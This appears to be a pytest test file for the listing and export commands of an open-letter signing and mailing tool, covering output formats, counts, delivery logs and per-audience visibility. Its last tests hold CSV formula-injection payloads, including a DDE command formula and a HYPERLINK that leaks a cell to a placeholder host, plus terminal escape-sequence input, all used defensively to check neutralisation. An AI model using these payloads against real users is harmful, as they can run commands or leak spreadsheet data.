"""status, log, count and export: names of fields, formats, who sees what."""

import csv
import io
import json
import re

import pytest

from workspace import LETTER, NOTFOUND, OK, PARTLY, Workspace, says

# Names that the contract fixes, in its order.
FIELDS = {
    "letters": "letter title languages kind date goal total",
    "count": "letter total people organisations countries pending",
    "status": "mailing letter audience state reason total queued sending sent "
    "deferred rejected unknown suppressed cancelled bounced",
    "log": "delivery mailing letter lang recipient state attempts message_id "
    "code status reply at",
    "export": "number name organisation role country city comment lang date",
}
ORGANISERS = (
    FIELDS["export"]
    + " kind email postcode visibility updates state source edition"
)
NUMBERS = {
    "goal",
    "total",
    "people",
    "organisations",
    "countries",
    "pending",
    "mailing",
    "queued",
    "sending",
    "sent",
    "deferred",
    "rejected",
    "unknown",
    "suppressed",
    "cancelled",
    "bounced",
    "delivery",
    "attempts",
    "code",
    "number",
}


@pytest.fixture
def filled(ol, catcher):
    """Some of everything: signatures of all sorts, a mailing that went out."""
    ol.conf(catcher.port)
    ol.letter(Goal="100", Date="2010-01-07")
    ol.load(
        [
            {
                "name": "Ann Public",
                "email": "ann@example.net",
                "country": "FR",
                "city": "Paris",
                "visibility": "public",
                "lang": "fr",
                "date": "2020-05-01",
            },
            {
                "name": "Rec Ipient",
                "email": "rec@example.net",
                "country": "FR",
                "visibility": "recipient",
                "lang": "fr",
                "date": "2020-05-01",
            },
            {
                "name": "Coun Ted",
                "email": "cou@example.net",
                "country": "IR",
                "visibility": "count",
                "lang": "fa",
                "comment": "Secret words",
                "date": "2020-05-02",
            },
            {
                "kind": "organisation",
                "name": "Con Tact",
                "organisation": "The Union",
                "email": "org@example.net",
                "country": "GB",
                "visibility": "public",
                "lang": "en",
                "date": "2020-05-02",
            },
        ]
    )
    catcher.rcpt["r1@example.org"] = "550 5.1.1 no such user, sorry"
    ol.send(rc=PARTLY)
    return ol


COMMANDS = [
    ("letters", ["letters"], FIELDS["letters"]),
    ("count", ["count"], FIELDS["count"]),
    ("count-one", ["count", LETTER], FIELDS["count"]),
    ("status", ["status"], FIELDS["status"]),
    ("log", ["log"], FIELDS["log"]),
    ("export", ["export", LETTER], FIELDS["export"]),
    (
        "organisers",
        ["export", LETTER, "--audience", "organisers"],
        ORGANISERS,
    ),
]
listing = pytest.mark.parametrize(
    "args, fields", [c[1:] for c in COMMANDS], ids=[c[0] for c in COMMANDS]
)


@listing
def test_json(filled, args, fields):
    rows = filled.json(*args)
    assert isinstance(rows, list) and rows
    for row in rows:
        assert set(fields.split()) <= set(row)
        for name in NUMBERS & set(row):
            assert row[name] is None or type(row[name]) is int, (name, row)


@listing
def test_jsonl_is_json_by_lines(filled, args, fields):
    lines = filled.ok(*args, "--format", "jsonl").out.splitlines()
    assert [json.loads(line) for line in lines] == filled.json(*args)


@listing
def test_csv_is_the_default_without_a_terminal(filled, args, fields):
    plain = filled.ok(*args)
    assert plain.raw == filled.ok(*args, "--format", "csv").raw
    assert not plain.raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(plain.out, newline="")))
    header = plain.out.splitlines()[0].split(",")
    assert set(fields.split()) <= set(header)
    for line, row in zip(rows, filled.json(*args), strict=True):
        assert set(line) == set(row)
        for name, value in row.items():
            if isinstance(value, str):
                assert line[name] in (value, "'" + value)
            elif type(value) is int:
                assert line[name] == str(value)


@listing
def test_table(filled, args, fields):
    table = filled.ok(*args, "--format", "table").out
    assert len(table.splitlines()) >= 2
    assert "," not in table.splitlines()[0]


def test_table_is_the_default_on_a_terminal(filled):
    terminal = filled.terminal("count")
    assert terminal.close() == OK
    table = filled.ok("count", "--format", "table").out
    assert terminal.text.strip() == table.strip()


@listing
def test_nothing_to_list(ol, args, fields):
    if args[0] == "letters" or args[0] == "count":
        pytest.skip("there is always a letter")
    assert ol.json(*args) == []
    assert ol.ok(*args, "--format", "jsonl").out == ""
    header = ol.ok(*args, "--format", "csv").out.strip().splitlines()
    assert len(header) <= 1


def test_format_before_the_verb(filled):
    before = filled.ok("--format", "json", "count")
    assert before.rows() == filled.json("count")


# count


def test_count(filled):
    row = filled.count()
    assert (row["letter"], row["total"]) == (LETTER, 4)
    assert (row["people"], row["organisations"]) == (3, 1)
    assert (row["countries"], row["pending"]) == (3, 0)


@pytest.mark.parametrize(
    "by, expected",
    [
        ("country", {"FR": 2, "IR": 1, "GB": 1}),
        ("language", {"fr": 2, "fa": 1, "en": 1}),
        ("day", {"2020-05-01": 2, "2020-05-02": 2}),
        ("visibility", {"public": 2, "recipient": 1, "count": 1}),
    ],
)
def test_count_by(filled, by, expected):
    rows = filled.json("count", LETTER, "--by", by)
    assert {row[by]: row["total"] for row in rows} == expected


def test_count_by_source_and_organisation(filled):
    filled.sign(email="desk@example.net", organisation="The Union")
    rows = filled.json("count", LETTER, "--by", "source")
    assert sorted(row["total"] for row in rows) == [1, 4]
    assert "desk" in {row["source"] for row in rows}
    rows = filled.json("count", LETTER, "--by", "organisation")
    counts = {row["organisation"]: row["total"] for row in rows}
    assert counts["The Union"] == 2
    assert sum(counts.values()) in (2, 5)


def test_count_of_all_letters(filled):
    filled.letter("ilo/other")
    filled.sign(email="x@example.net", letter="ilo/other")
    counts = {row["letter"]: row["total"] for row in filled.json("count")}
    assert counts == {LETTER: 4, "ilo/other": 1}


# status and log: who got it, who did not, and why


def test_status(filled):
    (row,) = filled.json("status")
    assert row["letter"] == LETTER and row["audience"] == "recipients"
    assert (row["total"], row["sent"], row["rejected"]) == (3, 2, 1)
    assert row["state"] == "done"
    for name in ("queued", "sending", "deferred", "unknown", "suppressed"):
        assert row[name] == 0
    assert row["cancelled"] == row["bounced"] == 0
    assert filled.json("status", row["mailing"]) == [row]


def test_log(filled):
    rows = {row["recipient"]: row for row in filled.log()}
    assert set(rows) == {f"r{i}@example.org" for i in range(3)}
    refused = rows["r1@example.org"]
    assert (refused["state"], refused["attempts"]) == ("rejected", 1)
    assert (refused["code"], refused["status"]) == (550, "5.1.1")
    assert refused["reply"] == "no such user, sorry"
    for row in rows.values():
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["at"])
        assert re.fullmatch(r"<[^<>@\s]+@[^<>@\s]+>", row["message_id"])
        assert row["lang"] == "en"


def test_log_of_a_state_and_since(filled):
    (row,) = filled.log("--state", "rejected")
    assert row["recipient"] == "r1@example.org"
    assert filled.log("--state", "deferred") == []
    assert len(filled.log("--since", "2001-01-01")) == 3
    assert filled.log("--since", "2999-01-01") == []
    assert len(filled.log(filled.status()["mailing"])) == 3
    assert filled.run("log", "--state", "lost").rc == 64


def test_message_id_says_nothing(filled, catcher):
    """128 random bits: no two alike, whoever and whenever."""
    lefts = [m.id.strip("<>").split("@")[0] for m in catcher.messages]
    assert lefts and len(set(lefts)) == len(lefts)
    for left in lefts:
        assert re.fullmatch(r"[a-z2-7]{26}", left)
    assert len({left[:8] for left in lefts}) == len(lefts), "no common part"


# export


SEEN = {
    "public": {"Ann Public", "The Union"},
    "recipient": {"Ann Public", "The Union", "Rec Ipient"},
    "organisers": {"Ann Public", "The Union", "Rec Ipient", "Coun Ted"},
}


@pytest.mark.parametrize("audience", SEEN)
@pytest.mark.parametrize("format", ["csv", "json", "jsonl", "table"])
def test_each_audience_sees_its_own(filled, audience, format):
    out = filled.ok(
        "export", LETTER, "--audience", audience, "--format", format
    ).out
    for name in SEEN["organisers"]:
        assert (name in out) == (name in SEEN[audience]), name
    assert ("Secret words" in out) == (audience == "organisers")
    assert ("@example.net" in out) == (audience == "organisers")


def test_public_is_the_default(filled):
    assert filled.ok("export", LETTER).raw == (
        filled.ok("export", LETTER, "--audience", "public").raw
    )


def test_export_of_nothing_known(filled):
    assert filled.run("export", "ilo/nothing").rc == NOTFOUND
    assert filled.run("export", LETTER, "--audience", "press").rc == 64


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    "+491234",
    "-1+1",
    "@SUM(A1)",
    "'=already",
    "''=twice",
    "'t Hooft",
    "O'Brien",
    "＝fullwidth",
]


def test_formulas_do_not_run_in_a_spreadsheet(ol, tmp_path, pristine):
    for i, text in enumerate(FORMULAS):
        argv = ol.argv("sign", LETTER, f"--name={text}", f"--city={text}")
        argv += ["--email", f"s{i}@example.org", "--visibility", "public"]
        assert ol.run_argv(argv).rc == OK
    assert {r["name"] for r in ol.signatures()} == set(FORMULAS)

    for audience in SEEN:
        out = ol.ok("export", LETTER, "--audience", audience).out
        for row in csv.reader(io.StringIO(out, newline="")):
            for cell in row:
                assert not re.match(r"[=+\-@\t\r]", cell), cell

    # What import reads from an export is what was there before.
    exported = ol.write(
        "out.csv", ol.ok("export", LETTER, "--audience", "organisers").out
    )
    other = Workspace(tmp_path / "other")
    other.run_argv([*other.argv(), "init", other.dir])
    ol_letter = ol.dir / "letters"
    for path in ol_letter.rglob("*.md"):
        other.write(
            "letters/" + str(path.relative_to(ol_letter)), path.read_bytes()
        )
    other.people(1)
    other.conf()
    other.ok("import", LETTER, exported)
    ours = {r["email"]: (r["name"], r["city"]) for r in ol.signatures()}
    theirs = {r["email"]: (r["name"], r["city"]) for r in other.signatures()}
    assert theirs == ours


def test_formula_in_the_ledger(ol, catcher):
    ol.conf(catcher.port)
    catcher.rcpt["r1@example.org"] = "550 5.1.1 =1+1"
    ol.send(rc=PARTLY)
    out = ol.ok("log", "--format", "csv").out
    for row in csv.reader(io.StringIO(out, newline="")):
        assert not [cell for cell in row if cell.startswith("=")]


def test_reply_cannot_paint_the_terminal(ol, fake_smtp):
    server = fake_smtp(fault=r"RCPT:0:raw 550 5.1.1 \x1b[31mred\x07 \x9b1m\r\n")
    ol.conf(server.port)
    result = ol.send(rc=PARTLY)
    for args in (["log"], ["log", "--format", "table"], ["status"]):
        out = ol.ok(*args)
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.out)
    assert "\x1b" not in result.err
    assert says(ol.log()[0]["reply"], "red")
